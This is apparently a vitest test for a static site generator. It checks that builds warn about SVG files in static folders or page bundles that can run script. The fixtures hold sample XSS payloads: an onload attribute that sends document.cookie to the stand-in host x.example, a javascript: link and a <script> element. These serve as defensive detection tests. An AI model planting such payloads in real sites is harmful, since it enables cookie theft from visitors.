import { describe, expect, it } from 'vitest';
import { article, createFixtureSite } from '../helpers/fixture-site.js';
import { runMain } from '../helpers/run-main.js';

const NOW = ['--now', '2026-11-20T12:00:00+07:00'];

describe('an SVG in the static folder or a page bundle that can run script', () => {
  it('is an svg-script warning at the file on every build, up to date or not, and a plain drawing is not', async () => {
    const site = createFixtureSite({
      'newsgen.config.json': JSON.stringify({ title: 'Warta Uji', baseUrl: 'https://uji.example/' }),
      'content/ekonomi/satu.md': article({ date: '2026-11-19 09:00' }),
      'static/images/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>',
      'static/images/peta.SVG':
        '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'//x.example/\'+document.cookie)"/>',
      // A page bundle's drawing is published as it is too.
      'content/ekonomi/dua/index.md': article({ title: 'Dua', date: '2026-11-18 09:00' }),
      'content/ekonomi/dua/bagan.svg':
        '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
      'static/grafik/harga.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    });
    for (const run of ['cold', 'up to date']) {
      const built = await runMain(site, ['build', ...NOW]);
      expect(built.code, built.stderr).toBe(0);
      if (run === 'up to date') expect(built.stdout + built.stderr).toContain('Up to date');
      const lines = built.stderr.split('\n').filter((line) => line.includes('svg-script'));
      expect(lines).toEqual([
        expect.stringMatching(
          /^content\/ekonomi\/dua\/bagan\.svg\s+warning\s+Unexpected script .*\(a javascript: link\)/,
        ),
        expect.stringMatching(
          /^static\/grafik\/harga\.svg\s+warning\s+Unexpected script in an SVG published as it is \(a <script> element\)/,
        ),
        expect.stringMatching(
          /^static\/images\/peta\.SVG\s+warning\s+Unexpected script in an SVG published as it is \(an onload attribute\)/,
        ),
      ]);
    }
  });
});
